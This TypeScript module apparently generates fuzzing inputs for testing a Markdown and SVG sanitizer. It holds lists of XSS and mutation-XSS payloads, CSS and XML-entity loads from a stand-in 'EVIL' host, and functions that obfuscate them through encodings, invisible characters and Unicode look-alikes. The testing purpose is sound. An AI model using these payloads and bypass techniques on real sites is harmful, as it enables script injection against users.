/**
 * Attacks in disguise: what runs or loads something, in the forms in which code that looks at texts may miss it.
 *
 * @module
 */
import { EVIL } from "./values.ts";

/** A number from 0 to 1, without 1. */
type Random = () => number;

/** What would run or load something, or close a part of the page, if it were published as it is. */
const ATTACKS: readonly string[] = [
  "javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "blob:https://evil/1",
  "view-source:javascript:alert(1)",
  "feed:javascript:alert(1)",
  `//${EVIL}/x`,
  `/\\${EVIL}/x`,
  `\\\\${EVIL}\\x`,
  `https:${EVIL}/x`,
  `https://${EVIL}/x`,
  `/..//${EVIL}/x`,
  `<script>alert(1)</script>`,
  `<script src="//${EVIL}/a.js"></script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://${EVIL}/a.png" srcset="//${EVIL}/b.png 2x">`,
  `<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea></textarea><script>alert(1)</script>`,
  `<title><a title="</title><img src=x onerror=alert(1)>">`,
  `<select><template><style></select><img src=x onerror=alert(1)>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<a title="<!--"><img src="--><script>alert(1)</script>">`,
  `<table><td><svg><desc><table><a href="javascript:alert(1)">`,
  `<iframe srcdoc="<script>alert(1)</script>" src="//${EVIL}"></iframe>`,
  `<object data="//${EVIL}/a"></object><embed src="//${EVIL}/a">`,
  `<base href="//${EVIL}/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<link rel=stylesheet href="//${EVIL}/a.css">`,
  `<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>`,
  `<p style="background:url(//${EVIL}/a)" id="main" class="hidden" name="body">x</p>`,
  `<video src="//${EVIL}/a" poster="//${EVIL}/b"><source src="//${EVIL}/c"></video>`,
  `<a href="javascript:alert(1)" target="_top" ping="//${EVIL}">x</a>`,
  `</main></body></html><script>alert(1)</script>`,
  `</script><script>alert(1)</script>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!--!><script>alert(1)</script>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml-stylesheet href="//${EVIL}/a.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "//${EVIL}/e">]>&e;`,
  `"onmouseover="alert(1)" x="`,
  `'onmouseover='alert(1)' x='`,
  "`onmouseover=alert(1)",
  `x onfocus=alert(1) autofocus`,
  `x]]></style><script>alert(1)</script>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
  `](javascript:alert(1)) [x](<javascript:alert(1)>`,
  `\n\n[a]: javascript:alert(1)\n\n[a]`,
];

/** What would load something, where a style is read. */
const STYLES: readonly string[] = [
  `url(//${EVIL}/a)`,
  `url("//${EVIL}/a.svg#b")`,
  `url(#a) url(//${EVIL}/a)`,
  `image-set("//${EVIL}/a" 1x)`,
  `src("//${EVIL}/a")`,
  `@import "//${EVIL}/a.css";`,
  `@font-face{font-family:x;src:url(//${EVIL}/f)}`,
  `*{background:url(//${EVIL}/a)}`,
  `expression(alert(1))`,
];

/** Characters that readers drop, replace or do not see. */
const UNSEEN = [
  ..."\u0000\u0001\u0008\t\n\r\f\u001b\u007f\u0085\u00a0\u00ad\u200b\u200d\ufeff\u2028\ufffe\uffff\ud800\u0301\udc00\u202e",
];

const NAMED: Readonly<Record<string, string>> = {
  ":": "&colon;",
  "/": "&sol;",
  "(": "&lpar;",
  "\t": "&Tab;",
  "\n": "&NewLine;",
  "<": "&lt;",
  ">": "&gt;",
  '"': "&quot;",
  "'": "&apos;",
  "&": "&amp;",
  "#": "&num;",
  "\\": "&bsol;",
};

/** Letters and signs that some form of Unicode, or some change of case, makes ASCII. */
const ALIKE: Readonly<Record<string, string>> = {
  s: "\u017f",
  k: "\u212a",
  i: "\u0131",
  I: "\u0130",
  "<": "\uff1c",
  ">": "\uff1e",
  '"': "\uff02",
  ":": "\uff1a",
  "/": "\uff0f",
  "(": "\uff08",
  "\\": "\uff3c",
  ".": "\u3002",
};

/** Changes some of the characters, by chance. */
const some =
  (change: (character: string, random: Random) => string) =>
  (text: string, random: Random): string => {
    const share = random();
    return Array.from(text, (one) => (random() < share ? change(one, random) : one)).join("");
  };

const octets = (character: string, mark: string) =>
  [...new TextEncoder().encode(character)]
    .map((octet) => mark + octet.toString(16).padStart(2, "0"))
    .join("");

const chosen = <Item>(items: readonly Item[], random: Random): Item =>
  items[Math.floor(random() * items.length)] as Item;

const code = (character: string, radix: number) => (character.codePointAt(0) ?? 0).toString(radix);

const DISGUISES: readonly ((text: string, random: Random) => string)[] = [
  (text, random) => {
    const at = Math.floor(random() * (text.length + 1));
    return text.slice(0, at) + chosen(UNSEEN, random) + text.slice(at);
  },
  // one character again and again, as it is or as a reference
  (text, random) => {
    const one = chosen(UNSEEN, random);
    const inserted = random() < 0.5 ? one : `&#${code(one, 10)};`;
    return some((own) => own + inserted)(text, random);
  },
  (text, random) => chosen(UNSEEN, random) + text,
  some((one, random) => one + (random() < 0.3 ? chosen(UNSEEN, random) : "")),
  some(
    (one, random) => `&#${"0".repeat(random() * 9)}${code(one, 10)}${random() < 0.8 ? ";" : ""}`,
  ),
  some((one, random) => `&#${random() < 0.5 ? "x" : "X"}${code(one, 16)};`),
  some((one) => NAMED[one] ?? one),
  // in XML, and where a reader of HTML drops what it cannot have
  (text, random) => {
    const at = Math.floor(random() * (text.length + 1));
    const reference = chosen(["&#1;", "&#0;", "&#xd800;", "&#13;", "&#9;", "&#128;"], random);
    return text.slice(0, at) + reference + text.slice(at);
  },
  some((one) => one.toUpperCase()),
  some((one) => octets(one, "%")),
  some((one) => octets(octets(one, "%"), "%")),
  some((one, random) => `\\${code(one, 16)}${random() < 0.5 ? " " : ""}`),
  some((one) => `\\${one}`),
  some((one) => ALIKE[one] ?? one),
  (text) => text.replaceAll("/", "\\"),
  (text) => text.normalize("NFD"),
  (text) => text.replace(/<(\w)(\w*)/g, "<$1<$1$2>$2"),
  (text) => text.replace(/(\w)\(/g, "$1/**/("),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(">", ""),
  (text) => `${text}${text}`,
];

/** An attack by chance, in up to three disguises. */
export function disguised(
  random: Random,
  attacks: readonly string[] = [...ATTACKS, ...STYLES],
): string {
  const count = Math.floor(random() * 4);
  let text = chosen(attacks, random);
  for (let step = 0; step < count; step++) text = chosen(DISGUISES, random)(text, random);
  return text;
}

/** An attack on pictures by chance: most are on styles. */
export const disguisedStyle = (random: Random): string =>
  disguised(random, random() < 0.7 ? STYLES : ATTACKS);

/** Where a text can be in Markdown. */
export const MARKDOWN_FORMS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `# ${text}`,
  (text) => `> [!NOTE]\n> ${text}`,
  (text) => `- [ ] ${text}\n- ${text}`,
  (text) => `[link](${text})`,
  (text) => `[link](<${text}> "${text}")`,
  (text) => `[link]( ${text} '${text}')`,
  (text) => `![image](${text})`,
  (text) => `![${text}](<${text}>)`,
  (text) => `<${text}>`,
  (text) => `https://example.org/${text}`,
  (text) => `| a |\n|:-:|\n| ${text} |`,
  (text) => `<a href="${text}" title="${text}">x</a>`,
  (text) => `<a href='${text}'></a>`,
  (text) => `<a href=${text}>x</a>`,
  (text) => `<a name="${text}">x</a> [x](#${text})`,
  (text) => `<img src='${text}' alt="${text}" width="${text}">`,
  (text) => `<img src="x" srcset="${text}" ${text}>`,
  (text) => `<div style="${text}" id="${text}" class="${text}" align="${text}">x</div>`,
  (text) => `<h2 id="${text}">${text}</h2>`,
  (text) => `<p ${text}>x</p>`,
  (text) => `<${text} x>y</${text}>`,
  (text) => `<table><tr><td colspan="${text}">${text}</table>`,
  (text) => `<details open="${text}"><summary>${text}</details>`,
  (text) => `<abbr title="${text}">x</abbr><!-- ${text} -->`,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `\`${text}\``,
  (text) => `[x][1]\n\n[1]: ${text} "${text}"`,
  (text) => `x[^1]\n\n[^1]: ${text}`,
  (text) => `<picture><source srcset="${text}"><img src="${text}"></picture>`,
  (text) => `<b><i><a href="${text}"><b><p>${text}</i>`,
];

/** Where a text can be in an SVG. */
export const SVG_FORMS: readonly ((text: string) => string)[] = [
  (text) => `<path d="M0 0h9" fill="${text}"/>`,
  (text) => `<path d="M0 0h9" style="fill:${text}"/>`,
  (text) => `<path d="M0 0h9" style='${text}'/>`,
  (text) => `<path d="${text}" id="${text}" class="${text}"/>`,
  (text) => `<path d="M0 0h9" mask="${text}" cursor="${text}" marker-end='${text}'/>`,
  (text) => `<path d="M0 0h9" ${text}/>`,
  (text) => `<path d="M0 0h9" ${text}="${text}"/>`,
  (text) => `<style>${text}</style>`,
  (text) => `<style>path{fill:${text}}</style>`,
  (text) => `<style><![CDATA[${text}]]></style>`,
  (text) => `<style type="${text}" media="${text}">path{fill:red}</style>`,
  (text) => `<use href="${text}" xlink:href="${text}"/>`,
  (text) => `<use x:href="${text}" xmlns:x="http://www.w3.org/1999/xlink"/>`,
  (text) => `<linearGradient id="a" href="${text}"><stop stop-color="${text}"/></linearGradient>`,
  (text) => `<a href="${text}"><path d="M0 0h9"/></a>`,
  (text) => `<text>${text}<tspan font-family="${text}">${text}</tspan></text>`,
  (text) => `<text><textPath href="${text}">x</textPath></text>`,
  (text) => `<title>${text}</title><desc>${text}</desc>`,
  (text) => `<filter id="a"><feImage href="${text}"/><feFlood flood-color="${text}"/></filter>`,
  (text) => `<image href="${text}" width="9" height="9"/>`,
  (text) => `<${text}/>`,
  (text) => `<${text}>x</${text}>`,
  (text) => text,
  (text) => `<![CDATA[${text}]]><!-- ${text} -->`,
  (text) => `<g><svg viewBox="0 0 9 9" ${text}="1"><path d="M0 0h9"/></svg></g>`,
];
